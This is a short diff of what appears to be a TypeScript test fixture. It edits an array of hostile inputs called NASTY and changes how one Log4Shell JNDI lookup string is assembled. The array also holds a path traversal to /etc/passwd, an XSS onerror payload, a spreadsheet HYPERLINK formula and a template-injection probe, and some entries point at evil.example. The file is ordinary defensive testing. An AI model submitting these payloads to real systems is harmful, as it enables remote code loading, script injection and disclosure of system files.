@@ -38,7 +38,7 @@ const NASTY: readonly unknown[] = [
   '../../etc/passwd',
   '<img src=x onerror=alert(1)>',
   '=HYPERLINK("http://evil.example")',
-  '$'.concat('{jndi:ldap://evil.example/a}'),
+  ['$', '{jndi:ldap://evil.example/a}'].join(''),
   '{{7*7}}',
   '2026-02-30',
   '9999-99-99',
